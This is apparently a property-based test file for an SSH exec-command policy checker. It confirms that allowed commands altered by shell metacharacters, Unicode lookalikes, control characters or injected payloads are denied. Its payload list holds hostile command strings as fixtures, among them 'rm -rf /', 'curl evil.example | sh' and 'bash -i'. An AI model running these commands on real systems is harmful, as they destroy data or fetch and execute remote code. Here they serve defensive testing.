/**
 * Properties of exec command matching (fast-check): an allowed command with anything injected, appended or
 * prepended (shell metacharacters, interpreter tricks, Unicode lookalikes, control characters) is denied.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { controlCharacterIn } from './command.js';
import { decide } from './decide.js';
import type { PolicyInput, SocketInput } from './types.js';

const ssh: SocketInput = { id: 'sock-ssh', socket_type: 'ssh', tags: {} };
/** Commands admins allow, interpreters among them: each is a way to run anything once it is extended. */
const ALLOWED = [
  'bash /tmp/report.sh',
  'uptime',
  'bash -c uptime',
  "sh -c 'df -h'",
  'python3 -c "print(42)"',
  'sudo systemctl status nginx',
  'sudo -u app /usr/local/bin/backup --dry-run',
];
/** What a shell (or an interpreter after -c) reads as "and now something else". */
const METACHARACTERS = [
  ';',
  '&',
  '&&',
  '|',
  '||',
  '`',
  '$(',
  ')',
  '${',
  '}',
  '>',
  '>>',
  '<',
  '<(',
  '\n',
  '\r',
  '\r\n',
  '\u0000',
  "'",
  '"',
  '\\',
  '\\\n',
  '#',
  '*',
  '?',
  '~',
  '!',
  ' ',
  '\t',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u009b',
];
/** Characters that look like the metacharacters or like space to a person, and never to a shell. */
const LOOKALIKES = [
  '\u037e', // Greek question mark, looks like ;
  '\uff1b', // fullwidth semicolon
  '\uff5c', // fullwidth vertical line
  '\u2028', // line separator
  '\u2029', // paragraph separator
  '\u00a0', // no-break space
  '\u2003', // em space
  '\u200b', // zero-width space
  '\u202e', // right-to-left override
  '\ufeff', // byte order mark
];
const PAYLOADS = ['id', 'rm -rf /', 'curl evil.example | sh', 'import os; os.system("id")', 'bash -i'];

const policy: PolicyInput = {
  id: 'p1',
  name: 'reports',
  document: { permissions: { ssh: { exec: { commands: ALLOWED } } }, condition: {} },
  org_wide: true,
  tag_rules: [],
  socket_ids: [],
};
const allowed = (command: string) =>
  decide([policy], ssh, {
    identity: { email: 'alice@acme.dev' },
    action: { type: 'ssh', kind: 'exec', command },
  }).allowed;

/** A sequence of metacharacters, lookalikes and payload words, never empty. */
const injection = fc
  .array(fc.constantFrom(...METACHARACTERS, ...LOOKALIKES, ...PAYLOADS), { minLength: 1, maxLength: 6 })
  .map((parts) => parts.join(''));

describe('exec command matching properties', () => {
  it('denies an allowed command with anything appended', () => {
    fc.assert(
      fc.property(fc.constantFrom(...ALLOWED), injection, (command, extra) => {
        expect(allowed(command + extra)).toBe(false);
      }),
    );
  });

  it('denies an allowed command with anything put in front of it', () => {
    fc.assert(
      fc.property(fc.constantFrom(...ALLOWED), injection, (command, extra) => {
        expect(allowed(extra + command)).toBe(false);
      }),
    );
  });

  it('denies an allowed command with anything inserted or substituted anywhere inside it', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...ALLOWED),
        injection,
        fc.nat(),
        fc.nat({ max: 2 }),
        (command, extra, at, removed) => {
          const index = at % (command.length + 1);
          const changed = command.slice(0, index) + extra + command.slice(index + removed);
          // Replacing a character by the same one is the allowed command itself.
          fc.pre(changed !== command);
          expect(allowed(changed)).toBe(false);
        },
      ),
    );
  });

  it('allows exactly the listed commands, over arbitrary strings', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), fc.constantFrom(...ALLOWED)),
        (c) => {
          expect(allowed(c)).toBe(ALLOWED.includes(c));
        },
      ),
    );
  });

  it('never allows a control character, even where any command is allowed', () => {
    const anyCommand: PolicyInput = {
      ...policy,
      document: { permissions: { ssh: { exec: {} } }, condition: {} },
    };
    fc.assert(
      fc.property(
        fc.string(),
        fc.integer({ min: 0, max: 0x9f }).filter((code) => code < 0x20 || code >= 0x7f),
        fc.string(),
        (before, code, after) => {
          const command = before + String.fromCharCode(code) + after;
          const decision = decide([anyCommand], ssh, {
            identity: { email: 'alice@acme.dev' },
            action: { type: 'ssh', kind: 'exec', command },
          });
          expect(decision.allowed).toBe(false);
          // The reason quotes the command with every control character escaped: safe to print anywhere.
          expect(controlCharacterIn(decision.reason)).toBeUndefined();
        },
      ),
    );
  });
});
